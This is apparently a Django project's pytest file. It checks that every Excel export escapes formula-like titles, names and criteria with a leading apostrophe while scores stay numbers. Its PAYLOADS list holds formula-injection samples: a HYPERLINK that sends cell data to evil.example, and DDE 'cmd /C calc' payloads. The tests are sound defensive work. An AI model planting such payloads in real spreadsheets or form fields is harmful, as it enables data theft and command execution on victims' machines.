"""Every Excel export writes text as text: a title, name or criterion that begins like a formula (= + - @, tab,
carriage return) is written with a leading apostrophe, never as a live formula; numbers stay numbers (issue 15,
item 18). The test runs every job kind that makes a workbook, so a new export is covered or the test fails."""

import io

import pytest
from openpyxl import load_workbook

from applications.models import Application
from jobs.models import Job
from jobs.registry import XLSX, job_kinds
from organisations.models import Organisation
from programs.models import Criterion, Track
from programs.selectors import rubric_for
from reviews.models import Assignment
from tests.milestones.conftest import open_project
from tests.reviews.conftest import NANSHA, make_reviewer, passed_application, run_to_reviewing, score_all, track_of

pytestmark = pytest.mark.django_db

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile(officer):
    """A track, organisations, titles and a rubric criterion whose text begins like a formula; a scored round and
    an open project, so the ranking, the ledger and the fund plan each write every one of them."""
    track = track_of(NANSHA, "1")
    Track.objects.filter(pk=track.pk).update(title=PAYLOADS[0])
    criterion = rubric_for(track).criteria.order_by("seq").first()
    Criterion.objects.filter(pk=criterion.pk).update(title=PAYLOADS[4])
    ranked = passed_application(track_of(NANSHA, "1"), title=PAYLOADS[1])
    Organisation.objects.filter(pk=ranked.organisation_id).update(name=PAYLOADS[2])
    make_reviewer()
    review_round = run_to_reviewing(officer, track_of(NANSHA, "1"), per_application=1)
    score_all(Assignment.objects.get(round=review_round), 80)
    project = open_project(officer)
    Application.objects.filter(pk=project.application_id).update(title=PAYLOADS[3])
    Organisation.objects.filter(pk=project.application.organisation_id).update(name=PAYLOADS[5] + PAYLOADS[6])
    return {"reviews.ranking_xlsx": review_round, "milestones.ledger_xlsx": track.program,
            "milestones.fund_plan_xlsx": track.program}


def _cells(data: bytes):
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_every_excel_export_writes_formula_like_text_as_text(hostile, officer):
    kinds = {code: kind for code, kind in job_kinds().items() if kind.makes_file and kind.content_type == XLSX}
    assert set(kinds) == set(hostile), "a new Excel export: give it a hostile target here"
    for code, kind in kinds.items():
        job = Job.objects.create(kind=code, requested_by=officer, target=hostile[code])
        cells = _cells(kind.run(job))
        assert not [c.coordinate for c in cells if c.data_type == "f"], code
        texts = [c.value for c in cells if isinstance(c.value, str)]
        assert not [t for t in texts if t.startswith(DANGEROUS_STARTS)], code
        assert any(t.startswith("'") and t[1:] in PAYLOADS for t in texts), code  # the hostile text is there
        assert any(c.data_type == "n" and isinstance(c.value, int | float) and c.value > 0 for c in cells), code


def test_ranking_export_keeps_scores_numbers_beside_escaped_titles(hostile, officer):
    from reviews.exports import ranking_xlsx

    book = load_workbook(io.BytesIO(ranking_xlsx([hostile["reviews.ranking_xlsx"]])))
    review = [c for c in book.worksheets[0][2]]  # one row per review: reference, title, organisation, track, …
    assert review[1].value == "'" + PAYLOADS[1] and review[1].data_type == "s"
    assert review[2].value == "'" + PAYLOADS[2] and review[3].value.endswith(PAYLOADS[0])
    assert review[-1].data_type == "n" and review[-1].value == 80  # the weighted total stays a number
    summary = [c for c in book.worksheets[1][2]]  # the track's summary: rank, reference, title, …
    assert summary[0].value == 1 and summary[2].value == "'" + PAYLOADS[1]
